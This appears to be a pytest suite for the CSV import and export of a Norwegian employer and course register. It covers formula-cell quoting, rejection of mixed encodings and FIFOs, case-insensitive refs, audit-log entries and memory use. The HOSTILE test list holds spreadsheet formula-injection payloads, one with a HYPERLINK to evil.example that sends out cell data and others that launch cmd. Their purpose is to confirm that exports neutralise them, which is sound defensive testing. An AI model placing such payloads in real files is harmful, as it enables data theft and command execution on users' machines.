"""Imports and exports under attack: formula cells end to end, mixed encodings and odd files
through the command line, refs in another case, import changes itemised in the audit log, and
plans that keep a million rows without a gigabyte."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import tracemalloc
from pathlib import Path

import pytest
from sqlalchemy import select
from support import SAMPLES, new_location, run_cli, run_kpdesk

from kpdesk import transfer
from kpdesk.common import csvfile
from kpdesk.common.errors import UserError
from kpdesk.db.models import AuditEntry, ContactPerson, Employer, Need, Offer
from kpdesk.db.store import Store
from kpdesk.offers import service as offers
from kpdesk.register import service as register
from kpdesk.register.validation import ContactData, EmployerData, NeedData
from kpdesk.transfer import apply_import, plan_bytes
from kpdesk.transfer.base import PlannedRow

STARTS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "=cmd|'/c calc'!A0", "'=1", "''+1", "＝1+1"]
# refs have no spaces
HOSTILE_REFS = ["=1+1", "+A1", "-A1", "@A1", "=cmd|'/c'!A0", "'=A1", "''-A1", "＝A1"]
ORGS = ["935112346", "968812343", "974112345", "987654325", "912345122", "998877113", "981212347", "988077917"]
EMPLOYER_COLUMNS = ("org_number", "name", "municipality", "industry", "contact_name", "contact_email",
                    "contact_phone", "notes")
NEED_COLUMNS = ("ref", "employer", "title", "description", "headcount", "level", "formats", "earliest_start",
                "latest_start", "priority", "status")


def plan(store: Store, kind: str, data: bytes) -> transfer.ImportPlan:
    with store.session() as s:
        return plan_bytes(s, kind, data, "fil.csv")


def run(store: Store, kind: str, data: bytes) -> transfer.ImportResult:
    with store.session() as s:
        return apply_import(s, plan_bytes(s, kind, data, "fil.csv"))


def lines(*rows: str) -> bytes:
    return ("\r\n".join(rows) + "\r\n").encode("utf-8-sig")


def trail(store: Store, after: int = 0) -> list[tuple[str, str, str, str | None, str | None, str]]:
    """(action, entity, field, old, new, summary) of the audit entries after id ``after``, in order."""
    with store.session() as s:
        return [tuple(r) for r in s.execute(  # type: ignore[misc]
            select(AuditEntry.action, AuditEntry.entity, AuditEntry.field, AuditEntry.old_value,
                   AuditEntry.new_value, AuditEntry.summary).where(AuditEntry.id > after).order_by(AuditEntry.id))]


def last_audit_id(store: Store) -> int:
    with store.session() as s:
        return s.execute(select(AuditEntry.id).order_by(AuditEntry.id.desc())).scalar() or 0


# ---------------------------------------------------------------- formulas, end to end

def _hostile_employers() -> bytes:
    rows = [(org, f"{h} {i}" if i % 2 else h, None, None, HOSTILE[-1 - i], f"kari{i}@firma.example.no",
             "+4412345678" if i % 2 else "", HOSTILE[(i + 3) % len(HOSTILE)])
            for i, (org, h) in enumerate(zip(ORGS, HOSTILE, strict=True))]
    return csvfile.to_bytes(EMPLOYER_COLUMNS, rows)


def _hostile_needs() -> bytes:
    rows = [(ref, org, h, HOSTILE[-1 - i], 2, "fagskole", "nettbasert", dt.date(2027, 8, 1), None, "høy", "ny")
            for i, (ref, org, h) in enumerate(zip(HOSTILE_REFS, ORGS, HOSTILE, strict=True))]
    return csvfile.to_bytes(NEED_COLUMNS, rows)


def _cells(path: Path) -> list[str]:
    """Every cell of a file as a spreadsheet reads it (nothing unescaped)."""
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


def test_export_import_export_of_hostile_values_is_byte_identical(store, tmp_path: Path) -> None:
    run(store, "employers", _hostile_employers())
    run(store, "needs", _hostile_needs())
    with store.session() as s:
        names = sorted(e.name for e in register.list_employers(s))
        needs = {n.ref: (n.title, n.description) for n in register.list_needs(s)}
        contact = register.list_contacts(s, register.employer_id_for_org(s, ORGS[1]))[0]
        transfer.export(s, "employers", tmp_path / "a-employers.csv")
        transfer.export(s, "needs", tmp_path / "a-needs.csv")
    # stored as typed: the quotes of the file are not part of the values
    assert HOSTILE[0] in names and f"{HOSTILE[1]} 1" in names and "'=1 5" in names and "''+1" in names
    assert needs["=1+1"] == (HOSTILE[0], HOSTILE[-1]) and needs["'=A1"] == ("'=1", HOSTILE[2])
    assert (contact.name, contact.phone) == (HOSTILE[-2], "+4412345678")
    # no cell of either export starts a formula, and the hostile ones are quoted
    for name in ("a-employers.csv", "a-needs.csv"):
        cells = _cells(tmp_path / name)
        assert not [c for c in cells if c and c[0] in STARTS], name
        assert "'" + HOSTILE[0] in cells and "'+4412345678" in _cells(tmp_path / "a-employers.csv")

    copy = Store.open(new_location(tmp_path, "kopi.sqlite"))
    try:
        run(copy, "employers", (tmp_path / "a-employers.csv").read_bytes())
        run(copy, "needs", (tmp_path / "a-needs.csv").read_bytes())
        with copy.session() as s:
            transfer.export(s, "employers", tmp_path / "b-employers.csv")
            transfer.export(s, "needs", tmp_path / "b-needs.csv")
            assert {n.ref: (n.title, n.description) for n in register.list_needs(s)} == needs
    finally:
        copy.close()
    for kind in ("employers", "needs"):
        assert (tmp_path / f"a-{kind}.csv").read_bytes() == (tmp_path / f"b-{kind}.csv").read_bytes(), kind


def test_exported_providers_and_offers_quote_formulas_too(store, tmp_path: Path) -> None:
    provider = "=HYPERLINK(\"http://x\",\"y\") AS"
    run(store, "offers", lines("ref;provider;title;description", f"'=T1;'{provider};'@SUM(1+1);'-2+3"))
    with store.session() as s:
        [offer] = offers.list_offers(s)
        transfer.export(s, "offers", tmp_path / "offers.csv")
        transfer.export(s, "providers", tmp_path / "providers.csv")
    assert (offer.ref, offer.provider_name, offer.title, offer.description) == ("=T1", provider, "@SUM(1+1)", "-2+3")
    for name in ("offers.csv", "providers.csv"):
        assert not [c for c in _cells(tmp_path / name) if c and c[0] in STARTS], name


# ---------------------------------------------------------------- mixed encodings and odd files, from the command line

def _mixed_file(path: Path) -> Path:
    good = "974112345;Ålesund AS\r\n".encode()
    bad = "987654325;Ålesund Havn AS\r\n".encode("cp1252")
    path.write_bytes(b"org_number;name\r\n" + good + bad + "912345122;Bodø AS\r\n".encode() + bad.replace(
        b"987654325", b"998877113"))
    return path


def test_the_command_line_refuses_a_mixed_file_and_changes_nothing(capsys, tmp_path: Path, db_path: Path) -> None:
    assert run_cli(capsys, "import", "employers", SAMPLES / "employers.csv", "--db", db_path)[0] == 0
    before = _register_rows(db_path)
    code, out, err = run_cli(capsys, "import", "employers", _mixed_file(tmp_path / "blandet.csv"), "--db", db_path)
    assert code == 1 and out == ""
    first, last = err.splitlines()[0], err.splitlines()[-1]
    assert first.startswith("linje 3: Filen er for det meste UTF-8, men linje 3 og 5 er i en annen tegnkoding "
                            "(trolig Windows-1252). Lagre filen på nytt som «CSV UTF-8 (kommadelt)» i Excel")
    assert last == "kpdesk: blandet.csv har 1 feil, så ingenting er importert."
    assert _register_rows(db_path) == before
    assert "Ã" not in repr(before)


def _register_rows(db: Path) -> tuple:
    store = Store.open(db)
    try:
        return _register_rows_of(store)
    finally:
        store.close()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_the_command_line_refuses_a_fifo_at_once(tmp_path: Path) -> None:
    fifo = tmp_path / "rør.csv"
    os.mkfifo(fifo)
    done = run_kpdesk("import", "employers", str(fifo), "--db", str(tmp_path / "db.sqlite"), timeout=60)
    assert done.returncode == 1
    assert done.stderr == f"kpdesk: {fifo} er ikke en vanlig fil, men et navngitt rør (FIFO), så kpdesk leser " \
                          "den ikke. Velg en CSV-fil.\n"
    assert not (tmp_path / "db.sqlite").exists()


# ---------------------------------------------------------------- refs without case

@pytest.fixture
def with_employer(store) -> Store:
    run(store, "employers", lines("org_number;name", "935112346;Fauske kommune"))
    return store


def test_x1_and_x1_in_one_file_are_one_ref_twice(with_employer) -> None:
    result = plan(with_employer, "needs", lines("ref;employer;title;headcount", "X1;935112346;A;1",
                                                "x1;935112346;B;1"))
    assert [str(p) for p in result.errors] == [
        "linje 3, kolonne ref: Referansen «x1» står også på linje 2 (store og små bokstaver regnes som like)"]


def test_a_ref_in_another_case_updates_the_need_and_keeps_its_spelling(with_employer) -> None:
    run(with_employer, "needs", lines("ref;employer;title;headcount", "HN01;935112346;Sveising;2"))
    result = run(with_employer, "needs", lines("ref;employer;title;headcount", "hn01;935112346;Sveising;3"))
    assert (result.created, result.updated) == (0, 1)
    with with_employer.session() as s:
        assert [(n.ref, n.headcount) for n in register.list_needs(s)] == [("HN01", 3)]


def test_the_register_refuses_a_ref_in_another_case(with_employer) -> None:
    with with_employer.session() as s:
        register.save_need(s, NeedData("935112346", "Sveising", "HN01"))
    with pytest.raises(UserError) as caught, with_employer.session() as s:
        register.save_need(s, NeedData("935112346", "Truck", "hn01"))
    assert caught.value.message == "Referansen «hn01» er allerede brukt (som «HN01») av behovet «Sveising»."


def test_automatic_refs_count_refs_in_any_case(with_employer) -> None:
    run(with_employer, "needs", lines("ref;employer;title;headcount", "b00007;935112346;A;1", ";935112346;B;1"))
    with with_employer.session() as s:
        assert [n.ref for n in register.list_needs(s)] == ["b00007", "B00008"]
        assert register.next_need_ref(s, {"B00011"}) == "B00012"


def test_offer_refs_match_in_any_case(store) -> None:
    run(store, "offers", lines("ref;provider;title", "PO01;Salten Kurs AS;Truckførerkurs"))
    result = run(store, "offers", lines("ref;provider;title", "po01;Salten Kurs AS;Truckførerkurs T1-T4"))
    assert (result.created, result.updated) == (0, 1)
    with store.session() as s:
        assert [(o.ref, o.title) for o in offers.list_offers(s)] == [("PO01", "Truckførerkurs T1-T4")]
    duplicate = plan(store, "offers", lines("ref;provider;title", "T9;A AS;A", "t9;A AS;B"))
    assert [p.line for p in duplicate.errors] == [3]


def test_a_booking_names_its_offer_in_any_case(store) -> None:
    run(store, "rooms", lines("name;capacity", "Storsalen;40"))
    run(store, "offers", lines("ref;provider;title", "PO01;Salten Kurs AS;Truckførerkurs"))
    result = run(store, "bookings", lines("room;title;start;end;offer_ref",
                                          "Storsalen;Truck;05.01.2027 09:00;05.01.2027 11:00;po01"))
    assert result.created == 1
    with store.session() as s:
        [offer_id] = s.execute(select(Offer.id)).scalars().all()
        from kpdesk.db.models import Booking

        assert s.execute(select(Booking.offer_id)).scalars().all() == [offer_id]


# ---------------------------------------------------------------- import changes in the audit log

CONTACT_HEADER = "org_number;name;notes;contact_name;contact_email;contact_phone"


def test_an_import_itemises_what_it_created(store) -> None:
    run(store, "employers", lines(CONTACT_HEADER, "935112346;Fauske kommune;;Marit Sandvik;marit@fauske.no;75600000",
                                  "968812343;Bodø kommune;;;;"))
    with store.session() as s:
        fauske = register.employer_id_for_org(s, "935112346")
        bodo = register.employer_id_for_org(s, "968812343")
        contact = register.list_contacts(s, fauske)[0].id
        ids = s.execute(select(AuditEntry.entity_id).where(AuditEntry.action == "create")
                        .order_by(AuditEntry.id)).scalars().all()
    assert trail(store) == [
        ("create", "employer", "", None, None, "Ny arbeidsgiver «Fauske kommune» (935 112 346)"),
        ("create", "employer", "", None, None, "Ny arbeidsgiver «Bodø kommune» (968 812 343)"),
        ("create", "contact_person", "", None, None, "Ny kontaktperson hos «Fauske kommune»"),
        ("import", "employer", "", None, None,
         "Import av 2 arbeidsgivere fra fil.csv: 2 nye, 0 oppdatert, 0 uendret."),
    ]
    assert ids == [fauske, bodo, contact]


def test_an_imported_phone_change_is_in_the_trail_like_an_edit_in_the_window(tmp_path: Path) -> None:
    """The same change made in the window and by an import leaves the same entries."""
    start = lines(CONTACT_HEADER, "935112346;Fauske kommune;Ringer før 12;Marit Sandvik;marit@fauske.no;75600000")
    trails = []
    for how in ("window", "import"):
        store = Store.open(new_location(tmp_path, f"{how}.sqlite"))
        try:
            run(store, "employers", start)
            after = last_audit_id(store)
            if how == "window":
                with store.session() as s:
                    employer = register.employer_id_for_org(s, "935112346")
                    [contact] = register.list_contacts(s, employer)
                    register.save_contact(s, employer, ContactData(contact.name, contact.role, contact.email,
                                                                   "+4412345678", contact.legal_basis), contact.id)
            else:
                result = run(store, "employers", lines(
                    CONTACT_HEADER, "935112346;Fauske kommune;Ringer før 12;Marit Sandvik;marit@fauske.no;"
                                    "'+4412345678"))
                assert (result.created, result.updated, result.unchanged) == (0, 1, 0)
            trails.append([e[:5] for e in trail(store, after) if e[0] != "import"])
        finally:
            store.close()
    assert trails[0] == trails[1] == [("update", "contact_person", "phone", "75600000", "+4412345678")]


def test_updated_fields_each_get_an_entry_with_old_and_new_values(with_employer) -> None:
    store = with_employer
    run(store, "needs", lines("ref;employer;title;headcount;status;earliest_start",
                              "HN01;935112346;Sveising;2;ny;01.08.2027", "HN02;935112346;Truck;1;ny;"))
    after = last_audit_id(store)
    result = run(store, "needs", lines("ref;employer;title;headcount;status;earliest_start",
                                       "hn01;935112346;Sveising;4;kartlagt;01.09.2027", "HN02;935112346;Truck;1;ny;"))
    assert (result.created, result.updated, result.unchanged) == (0, 1, 1)
    with store.session() as s:
        hn01 = s.execute(select(Need.id).where(Need.ref == "HN01")).scalar_one()
        entity_ids = s.execute(select(AuditEntry.entity_id).where(AuditEntry.id > after, AuditEntry.action == "update")
                               ).scalars().all()
    assert trail(store, after) == [
        ("update", "need", "headcount", "2", "4", ""),
        ("update", "need", "earliest_start", "01.08.2027", "01.09.2027", ""),
        ("update", "need", "status", "new", "mapped", ""),
        ("import", "need", "", None, None, "Import av 2 behov fra fil.csv: 0 nye, 1 oppdatert, 1 uendret."),
    ]
    assert entity_ids == [hn01] * 3


def test_employer_fields_and_parents_are_itemised(store) -> None:
    run(store, "employers", lines("org_number;name;municipality", "935112346;Fauske kommune;1841",
                                  "968812343;Bodø kommune;1804"))
    after = last_audit_id(store)
    run(store, "employers", lines("org_number;name;municipality;parent_org_number",
                                  "935112346;Fauske kommune, helse;1841;968812343", "968812343;Bodø kommune;1804;",
                                  "974112345;Vefsn kommune;1824;935112346"))
    with store.session() as s:
        fauske, bodo, vefsn = (register.employer_id_for_org(s, org) for org in ("935112346", "968812343",
                                                                                 "974112345"))
        assert s.execute(select(Employer.parent_id).where(Employer.id == vefsn)).scalar() == fauske
    assert [e[:5] for e in trail(store, after)] == [
        ("create", "employer", "", None, None),
        ("update", "employer", "name", "Fauske kommune", "Fauske kommune, helse"),
        ("update", "employer", "parent_id", None, str(bodo)),
        ("import", "employer", "", None, None),
    ]


def test_offers_and_their_new_providers_are_itemised(store) -> None:
    run(store, "offers", lines("ref;provider;title;sessions", "PO01;Salten Kurs AS;Truck;03.02.2027"))
    after = last_audit_id(store)
    run(store, "offers", lines("ref;provider;title;sessions", "PO01;Salten Kurs AS;Truck T1;03.02.2027, 04.02.2027",
                               "PO02;Nordland fagskole;Sveis;"))
    assert [e[:5] for e in trail(store, after)] == [
        ("create", "provider", "", None, None),
        ("import", "provider", "", None, None),
        ("update", "offer", "title", "Truck", "Truck T1"),
        ("create", "offer", "", None, None),
        ("update", "offer", "sessions", "03.02.2027", "03.02.2027, 04.02.2027"),
        ("import", "offer", "", None, None),
    ]
    assert [e[5] for e in trail(store, after) if e[0] == "create"] == ["Ny tilbyder «Nordland fagskole»",
                                                                       "Nytt kurstilbud PO02 «Sveis»"]


def test_bookings_and_providers_files_are_itemised(store) -> None:
    run(store, "rooms", lines("name;capacity", "Storsalen;40"))
    after = last_audit_id(store)
    run(store, "bookings", lines("room;title;start;end;repeat", "Storsalen;Truck;05.01.2027 09:00;05.01.2027 11:00;",
                                 'Storsalen;Sveis;06.01.2027 09:00;06.01.2027 11:00;"FREQ=WEEKLY;COUNT=3"'))
    run(store, "providers", lines("name;kind;web", "Salten Kurs AS;;https://salten.example.no"))
    run(store, "providers", lines("name;kind;web", "Salten Kurs AS;;https://kurs.example.no"))
    assert [(e[0], e[1], e[2], e[5]) for e in trail(store, after) if e[0] != "import"] == [
        ("create", "booking", "", "Ny booking «Truck» 05.01.2027 kl. 09.00–11.00 i Storsalen."),
        ("create", "booking_series", "", "Ny serie «Sveis» i Storsalen, hver uke, 3 ganger: 3 bookinger."),
        ("create", "provider", "", "Ny tilbyder «Salten Kurs AS»"),
        ("update", "provider", "web", ""),
    ]


def test_a_large_update_is_itemised_quickly(store) -> None:
    import time

    header = "org_number;name;contact_name;contact_phone"
    orgs = _org_numbers(3000)
    run(store, "employers", lines(header, *(f"{o};Firma {i} AS;Kari {i};75{i:06d}" for i, o in enumerate(orgs))))
    after = last_audit_id(store)
    started = time.perf_counter()
    result = run(store, "employers", lines(header, *(f"{o};Firma {i} AS;Kari {i};76{i:06d}"
                                                     for i, o in enumerate(orgs))))
    elapsed = time.perf_counter() - started
    assert (result.updated, result.unchanged) == (3000, 0)
    changes = [e for e in trail(store, after) if e[0] == "update"]
    assert len(changes) == 3000 and changes[0][:5] == ("update", "contact_person", "phone", "75000000", "76000000")
    assert elapsed < 30


def _org_numbers(count: int) -> list[str]:
    from kpdesk.common.orgnr import check_digit

    found = []
    number = 90_000_000
    while len(found) < count:
        digit = check_digit(str(number))
        if digit is not None:
            found.append(f"{number}{digit}")
        number += 1
    return found


# ---------------------------------------------------------------- a plan keeps its rows compressed

def test_planned_rows_behave_like_a_list() -> None:
    from kpdesk.transfer.base import PlannedRows

    made = [PlannedRow(n, "update" if n % 3 else "create", NeedData("935112346", f"Behov {n}", f"R{n}"), None,
                       n if n % 3 else None) for n in range(5000)]
    rows = PlannedRows(made)
    assert len(rows) == 5000 and list(rows) == made and rows == made
    assert rows[0] == made[0] and rows[2001] == made[2001] and rows[-1] == made[-1] and rows[10:12] == made[10:12]
    assert (rows.actions["create"], rows.actions["update"]) == (1667, 3333)
    with pytest.raises(IndexError):
        rows[5000]
    assert PlannedRows() == []


def test_a_plan_of_many_rows_holds_little(store) -> None:
    orgs = _org_numbers(20_000)
    data = lines(CONTACT_HEADER, *(f"{o};Arbeidsgiver {i} AS;Notat om ønsker {i};Kari Nordmann {i};"
                                   f"kari.{i}@firma{i % 97}.example.no;75{i:06d}" for i, o in enumerate(orgs)))
    with store.session() as s:
        plan_bytes(s, "employers", data[:2000], "oppvarming.csv")  # imports and caches outside the measurement
        tracemalloc.start()
        try:
            result = plan_bytes(s, "employers", data, "mange.csv")
            held, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    assert len(result.rows) == 20_000 and not result.problems
    assert held < 8_000_000, f"the plan holds {held:,} bytes for 20 000 rows"
    assert peak < 25_000_000, f"planning peaked at {peak:,} bytes for 20 000 rows"


# ---------------------------------------------------------------- all or nothing, chunk by chunk

def test_a_plan_gone_stale_in_a_later_chunk_leaves_nothing_behind(store) -> None:
    orgs = _org_numbers(5000)  # three chunks
    data = lines(CONTACT_HEADER, *(f"{o};Firma {i} AS;;Kari {i};;" for i, o in enumerate(orgs)))
    stale_plan = plan(store, "employers", data)
    with store.session() as s:
        register.save_employer(s, EmployerData(orgs[4500], "Registrert i mellomtiden AS"))
    before = (_register_rows_of(store), last_audit_id(store))
    with pytest.raises(UserError, match="Databasen er endret siden filen ble kontrollert"), store.session() as s:
        apply_import(s, stale_plan)
    assert (_register_rows_of(store), last_audit_id(store)) == before


def _register_rows_of(store: Store) -> tuple:
    with store.session() as s:
        return tuple(tuple(map(tuple, s.execute(select(*m.__table__.c).order_by(m.id)).all()))
                     for m in (Employer, ContactPerson, Need))
